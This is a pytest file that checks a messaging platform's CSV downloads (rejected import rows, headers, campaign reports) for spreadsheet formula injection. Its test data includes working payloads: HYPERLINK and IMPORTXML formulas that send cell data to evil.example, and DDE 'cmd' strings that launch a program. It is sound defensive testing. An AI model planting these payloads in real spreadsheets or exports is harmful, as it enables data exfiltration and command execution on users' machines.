"""CSV files we hand back are safe to open in a spreadsheet (formula injection), checked over HTTP.

Values strangers typed into sign-up forms (rejected import rows) and names tenants chose (campaigns,
providers, batches, senders, variants) and codes providers sent back (failure reasons) go into CSV
downloads. A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return runs as a formula in
Excel, LibreOffice and Google Sheets; each must arrive with a leading apostrophe and otherwise unchanged.
"""

from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa
from aiohttp.test_utils import TestClient

from dispatcher.api.keys import SESSIONS
from dispatcher.core.csvsafe import FORMULA_PREFIXES, safe_cell
from dispatcher.storage.campaigns import Batch, Campaign, Message
from dispatcher.storage.content import Provider
from tests import inbound_seed
from tests.api.makers_core import make_list
from tests.api.makers_lists import import_csv
from tests.conftest import KeyMaker, bearer

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _dangerous(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell[:1] in FORMULA_PREFIXES]


@pytest.mark.parametrize("value", FORMULAS)
def test_safe_cell_neutralises_every_prefix(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert safe_cell("Ann") == "Ann"


async def test_import_rejects_download_is_spreadsheet_safe(client: TestClient, make_key: KeyMaker) -> None:
    key = await make_key()
    list_id = await make_list(client, key)
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["phone", "email", "first_name", "level"])
    for value in FORMULAS:
        writer.writerow([value, value, value, value])  # invalid phone and e-mail: rejected
    writer.writerow(["+14155550100", "x@example.com", FORMULAS[0], "a", FORMULAS[1]])  # malformed row
    job = await import_csv(client, key, list_id, buffer.getvalue())
    assert job["rejected"] == len(FORMULAS) + 1, job
    response = await client.get(f"/v1/imports/{job['id']}/rejects", headers=bearer(key))
    assert response.status == 200
    header, *rows = _rows(await response.text())
    assert header == ["row_number", "reason", "phone", "email", "first_name", "level"]
    assert len(rows) == len(FORMULAS) + 1
    for row, value in zip(rows, FORMULAS, strict=False):
        assert row[2:] == ["'" + value.strip()] * 4, row  # the importer trims white space
    assert not [cell for row in rows for cell in _dangerous(row[2:])]


async def test_import_rejects_header_names_are_spreadsheet_safe(
    client: TestClient, make_key: KeyMaker
) -> None:
    key = await make_key()
    list_id = await make_list(client, key)
    job = await import_csv(
        client, key, list_id, f'phone,"{FORMULAS[6].replace(chr(34), chr(34) * 2)}"\nnope,x\n'
    )
    response = await client.get(f"/v1/imports/{job['id']}/rejects", headers=bearer(key))
    header, *_ = _rows(await response.text())
    assert not _dangerous(header), header


async def _seed_hostile_report(client: TestClient) -> tuple[int, int]:
    """A sent SMS campaign whose every name a report prints is a formula; returns workspace and campaign."""
    async with client.app[SESSIONS].begin() as session:
        made = await inbound_seed.seed(session, count=4, slug="acme")
        await session.execute(
            sa.update(Campaign)
            .where(Campaign.id == made.campaign_id)
            .values(name=FORMULAS[6], sender=FORMULAS[3])
        )
        await session.execute(
            sa.update(Provider).where(Provider.id == made.provider_id).values(name=FORMULAS[7])
        )
        await session.execute(sa.update(Batch).where(Batch.id == made.batch_id).values(code=FORMULAS[8]))
        await session.execute(
            sa.update(Message)
            .where(Message.id.in_(made.message_ids[:2]))
            .values(state="failed", error_code=FORMULAS[9][:60], variant="=1+1")
        )
    return made.workspace_id, made.campaign_id


async def test_report_csv_exports_are_spreadsheet_safe(client: TestClient, make_key: KeyMaker) -> None:
    key = await make_key("acme")
    _, campaign_id = await _seed_hostile_report(client)
    downloads: dict[str, list[list[str]]] = {}
    for group_by in ["campaign", "batch", "provider", "sender", "variant", "campaign,batch,provider,sender"]:
        response = await client.get(f"/v1/reports?format=csv&group_by={group_by}", headers=bearer(key))
        assert response.status == 200, await response.text()
        downloads[group_by] = _rows(await response.text())
    response = await client.get(f"/v1/reports/campaigns/{campaign_id}?format=csv", headers=bearer(key))
    assert response.status == 200, await response.text()
    downloads["campaign report"] = _rows(await response.text())
    cells = [cell for rows in downloads.values() for row in rows for cell in row]
    assert not _dangerous(cells), _dangerous(cells)
    # the hostile names are there, neutralised, not dropped
    for value in (FORMULAS[6], FORMULAS[7], FORMULAS[8], FORMULAS[3], "=1+1", FORMULAS[9][:60]):
        assert "'" + value in cells, value
